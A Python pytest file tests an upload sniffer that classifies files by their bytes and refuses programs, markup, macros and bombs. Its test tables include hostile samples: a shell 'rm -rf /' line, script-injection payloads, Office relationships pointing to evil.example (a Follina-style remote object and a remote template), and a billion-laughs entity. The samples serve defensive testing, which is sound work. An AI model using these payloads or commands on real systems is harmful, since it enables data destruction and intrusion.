"""app/lib/sniff.py: a shared file's type from its bytes, never from its name (issue 11).

Real files where a library makes them (Pillow's JPEG, PNG and WebP; Office packages built
with zipfile as Word, Excel and PowerPoint lay them out), hand-made heads where the format is
only a signature (HEIC's ftyp box, PDF's header, programs)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from app.lib.sniff import (
    DOCX,
    HEAD_BYTES,
    HEIC,
    JPEG,
    OFFICE_CANDIDATE,
    PDF,
    PNG,
    PPTX,
    TEXT,
    WEBP,
    XLSX,
    Refused,
    TextCheck,
    check_office,
    sniff_head,
)


def image_bytes(fmt: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(out, fmt)
    return out.getvalue()


def ftyp(major: bytes, *compatible: bytes) -> bytes:
    body = b"ftyp" + major + b"\x00\x00\x00\x00" + b"".join(compatible)
    return (len(body) + 4).to_bytes(4, "big") + body + b"\x00\x00\x00\x08mdat"


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (image_bytes("JPEG"), JPEG),
        (image_bytes("PNG"), PNG),
        (image_bytes("WEBP"), WEBP),
        (ftyp(b"heic", b"mif1", b"heic"), HEIC),
        (ftyp(b"mif1", b"heic"), HEIC),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", PDF),
        (b"Handover, bay 4: obs stable, NEWS 2.\r\n\tRecheck 14:00\n", TEXT),
        ("Dr. Müller: Blutzucker 5,4 mmol/l — ok ✓\n".encode(), TEXT),
        (b"\xef\xbb\xbfwith a byte-order mark\n", TEXT),
        (b"PK\x03\x04\x14\x00\x00\x00", OFFICE_CANDIDATE),
    ],
)
def test_allowed_types_are_recognised_by_their_bytes(head: bytes, expected: object) -> None:
    assert sniff_head(head[:HEAD_BYTES]) == expected


@pytest.mark.parametrize(
    ("head", "code"),
    [
        (b"", "empty"),
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00", "program"),
        (b"\x7fELF\x02\x01\x01", "program"),
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01", "program"),
        (b"#!/bin/sh\nrm -rf /\n", "program"),
        (b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00", "program"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00", "legacy_office"),
        (b"\x1f\x8b\x08\x00", "archive"),
        (b"Rar!\x1a\x07\x00", "archive"),
        (b"<!DOCTYPE html><html><script>alert(1)</script>", "markup"),
        (b"  \n<html><body onload=x()>", "markup"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "markup"),
        (b'<?xml version="1.0"?><svg/>', "markup"),
        (b"\xef\xbb\xbf<script>alert(1)</script>", "markup"),
        (ftyp(b"avif", b"mif1", b"avif"), "unknown"),  # AVIF shares HEIF's box, not its list
        (ftyp(b"isom", b"mp41"), "unknown"),  # an MP4 video
        (b"text with a NUL\x00 in it", "unknown"),
        (b"an escape \x1b[2J sequence", "unknown"),
        ("UTF-16 text".encode("utf-16"), "unknown"),
        (b"latin-1 \xe9t\xe9 is not UTF-8", "unknown"),
        (b"\x00\x00\x01\x00\x01\x00", "unknown"),  # an icon
    ],
)
def test_everything_else_is_refused_with_a_reason(head: bytes, code: str) -> None:
    with pytest.raises(Refused) as refused:
        sniff_head(head)
    assert refused.value.code == code
    assert refused.value.message.endswith(".")


def test_a_name_or_an_html_file_behind_an_image_extension_changes_nothing() -> None:
    """The sniffer sees only bytes: an HTML page called scan.png is still HTML."""
    with pytest.raises(Refused, match="Web pages"):
        sniff_head(b"<html><img src=x onerror=alert(1)></html>")


def test_a_pdf_signature_later_than_the_first_byte_is_not_a_pdf() -> None:
    """Readers accept ``%PDF-`` anywhere in the first KiB, which is how polyglots work."""
    with pytest.raises(Refused):
        sniff_head(b"GIF89a\x01\x00\x01\x00" + b"%PDF-1.4\n")


def test_text_is_checked_chunk_by_chunk_to_the_end() -> None:
    check = TextCheck()
    snowman = "☃".encode()
    check.feed(b"a" * 10 + snowman[:1])  # a character cut between two chunks
    check.feed(snowman[1:] + b" fine\n")
    check.feed(b"", final=True)
    late = TextCheck()
    late.feed(b"clean start\n")
    with pytest.raises(Refused):
        late.feed(b"then a NUL \x00")
    truncated = TextCheck()
    truncated.feed(snowman[:2])
    with pytest.raises(Refused):
        truncated.feed(b"", final=True)  # the file ends inside a character


# -- Office documents ------------------------------------------------------------------------

CT = "http://schemas.openxmlformats.org/package/2006/content-types"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN = {
    "word": ("/word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "xl": ("/xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "ppt": ("/ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
}


def office(tmp_path: Path, app: str = "word", *, content_type: str | None = None, extra: dict[str, bytes] | None = None, rels: str = "") -> Path:
    part, default_type = MAIN[app]
    types = (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="{part}" ContentType="{content_type or default_type}"/></Types>'
    )
    path = tmp_path / f"{app}-{len(list(tmp_path.iterdir()))}.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", types)
        z.writestr("_rels/.rels", f'<?xml version="1.0"?><Relationships xmlns="{REL}"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="{part[1:]}"/></Relationships>')
        z.writestr(part[1:], "<doc>rota for December</doc>")
        z.writestr(part[1:].rsplit("/", 1)[0] + "/_rels/" + part.rsplit("/", 1)[1] + ".rels", f'<?xml version="1.0"?><Relationships xmlns="{REL}">{rels}</Relationships>')
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return path


def test_word_excel_and_powerpoint_files_are_recognised(tmp_path: Path) -> None:
    assert check_office(office(tmp_path, "word")) == DOCX
    assert check_office(office(tmp_path, "xl")) == XLSX
    assert check_office(office(tmp_path, "ppt")) == PPTX
    hyperlink = '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://intranet.example/rota" TargetMode="External"/>'
    assert check_office(office(tmp_path, rels=hyperlink)) == DOCX  # a link is not active content
    assert sniff_head(office(tmp_path).read_bytes()[:HEAD_BYTES]) == OFFICE_CANDIDATE


@pytest.mark.parametrize(
    ("build", "code"),
    [
        (lambda p: office(p, content_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "active_content"),
        (lambda p: office(p, extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "active_content"),
        (lambda p: office(p, extra={"word/activeX/activeX1.xml": b"<ax/>"}), "active_content"),
        (lambda p: office(p, extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "active_content"),
        (
            lambda p: office(p, rels='<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="http://evil.example/x.html!" TargetMode="External"/>'),
            "active_content",  # the remote-template path (Follina)
        ),
        (
            lambda p: office(p, rels='<Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'),
            "active_content",
        ),
        (lambda p: _plain_zip(p), "archive"),
        (lambda p: _bytes(p, b"PK\x03\x04 not really a zip at all"), "damaged"),
        (lambda p: office(p, extra={"big.xml": b"\x00" * (5 * 1024 * 1024)}), "bomb"),
        (lambda p: office(p, extra={"[trick].xml": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}, rels='<!DOCTYPE x [<!ENTITY a "a">]>'), "damaged"),
    ],
)
def test_active_content_archives_bombs_and_damage_are_refused(tmp_path: Path, build: object, code: str) -> None:
    path = build(tmp_path)  # type: ignore[operator]
    with pytest.raises(Refused) as refused:
        check_office(path)
    assert refused.value.code == code


def _plain_zip(tmp_path: Path) -> Path:
    path = tmp_path / "photos.zip"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("a.txt", "hello")
    return path


def _bytes(tmp_path: Path, data: bytes) -> Path:
    path = tmp_path / "broken.zip"
    path.write_bytes(data)
    return path


def test_xml_with_a_dtd_is_refused_before_any_entity_expands(tmp_path: Path) -> None:
    laughs = '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    path = tmp_path / "laughs.docx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("[Content_Types].xml", laughs + f'<Types xmlns="{CT}"><Override PartName="/word/document.xml" ContentType="&b;"/></Types>')
        z.writestr("word/document.xml", "<doc/>")
    with pytest.raises(Refused) as refused:
        check_office(path)
    assert refused.value.code == "damaged"
